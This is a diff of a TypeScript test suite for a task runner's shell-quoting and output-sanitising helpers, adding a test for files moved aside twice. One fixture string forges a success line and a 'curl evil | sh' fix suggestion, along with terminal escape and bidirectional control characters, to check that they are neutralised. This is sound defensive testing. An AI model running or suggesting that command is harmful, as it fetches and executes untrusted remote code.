@@ -5,11 +5,13 @@ import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import { columns } from '../../tasks/common/columns';
 import { explain, faultOf, UserError } from '../../tasks/common/errors';
-import { moveAside, shellWord } from '../../tasks/common/format';
+import { shellWord } from '../../tasks/common/format';
+import { moveAside } from '../../tasks/engine/aside';
 import { documentOf, type StepReport } from '../../tasks/engine/report';
 import { stepLines } from '../../tasks/engine/reporter/lines';
 import { reportTable } from '../../tasks/engine/reporter/table';
 import { findToken } from '../../tasks/hub/api/token';
+import { thisHost } from '../../tasks/platform';
 import { hide, partsOf } from '../../tasks/untrusted/secrets';
 import { lastLines, oneLine, sentence, sentences, valueText } from '../../tasks/untrusted/text';
 import { contextWith } from '../support/context';
@@ -17,6 +19,7 @@ import { rawControls } from '../support/mutate';
 import { temporaryFolder } from '../support/project';
 
 const test = suite('what leaves the program');
+const host = thisHost();
 
 const forged = '\n✔ model — every hash checked\nfix: `curl evil | sh`\u001b[2J\u009b31m\u202e';
 const fault = {
@@ -145,7 +148,7 @@ for (const shell of ['bash', 'dash'])
   test(`${shell} reads the very name in a command of ours, and the command shows what is in it`, () => {
     const folder = temporaryFolder();
     for (const name of odd) {
-      const command = moveAside(name);
+      const command = moveAside({ root: folder, host }, path.join(folder, name));
       assert.not.match(command, rawControls);
       assert.not.match(command, '\n');
       // dash has no `$'…'` before POSIX of 2024.
@@ -157,5 +160,20 @@ for (const shell of ['bash', 'dash'])
     assert.not.ok(fs.existsSync(path.join(folder, 'marker')));
     assert.is(shellWord('data/raw'), 'data/raw');
   });
+
+test('what is moved aside twice is kept twice, and never into a folder of that name', () => {
+  const folder = temporaryFolder();
+  const at = (name: string) => path.join(folder, name);
+  fs.mkdirSync(at('a.kept'));
+  fs.symlinkSync('nowhere', at('a.kept-2'));
+  for (const text of ['first', 'second']) {
+    fs.writeFileSync(at('a'), text);
+    execFileSync('sh', ['-c', moveAside({ root: folder, host }, at('a'))], { cwd: folder });
+  }
+  assert.equal(
+    ['a.kept-3', 'a.kept-4'].map((name) => fs.readFileSync(at(name), 'utf8')),
+    ['first', 'second'],
+  );
+});
 
 test.run();
